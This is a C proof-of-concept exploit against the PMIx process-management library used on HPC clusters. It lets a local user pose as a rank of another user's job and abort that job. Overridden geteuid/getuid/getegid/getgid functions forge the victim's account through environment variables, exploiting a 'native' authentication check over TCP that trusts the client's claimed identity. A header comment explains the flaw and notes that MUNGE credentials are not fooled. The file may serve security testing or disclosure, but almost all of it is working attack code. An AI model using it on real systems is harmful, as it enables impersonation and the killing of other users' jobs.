/* A local user posing as a rank of another user's job through the node's PMIx server: it
 * takes the victim's PMIx variables (the server's address, the job's namespace, a rank that
 * has not connected), claims the victim's account, and calls PMIx_Abort to end the job.
 *
 * The claim: over TCP the library's "native" check takes the client's word for its account,
 * which this program gives from FORGE_UID and FORGE_GID, by answering the library's own
 * geteuid() and getegid() calls (a program's own definitions come before libc's). A MUNGE
 * credential is made by munged, which asks the kernel who is asking: no claim changes it. */
#define _GNU_SOURCE
#include <pmix.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>

static uid_t claimed(const char *var, long real) {
    const char *v = getenv(var);
    return v ? (uid_t)atol(v) : (uid_t)real;
}
uid_t geteuid(void) { return claimed("FORGE_UID", syscall(SYS_geteuid)); }
uid_t getuid(void) { return claimed("FORGE_UID", syscall(SYS_getuid)); }
gid_t getegid(void) { return (gid_t)claimed("FORGE_GID", syscall(SYS_getegid)); }
gid_t getgid(void) { return (gid_t)claimed("FORGE_GID", syscall(SYS_getgid)); }

int main(void) {
    pmix_proc_t me;
    const char *target = getenv("PMIX_NAMESPACE");
    int rc = PMIx_Init(&me, NULL, 0);
    if (rc != PMIX_SUCCESS) {
        printf("refused: %s\n", PMIx_Error_string(rc));
        return 0;
    }
    if (target == NULL || strcmp(me.nspace, target) != 0) {
        printf("refused: a world of its own (%s)\n", me.nspace);
        return 0;
    }
    printf("connected as rank %u of %s\n", me.rank, me.nspace);
    fflush(stdout);
    PMIx_Abort(42, "an intruder ends this job", NULL, 0);
    return 0;
}
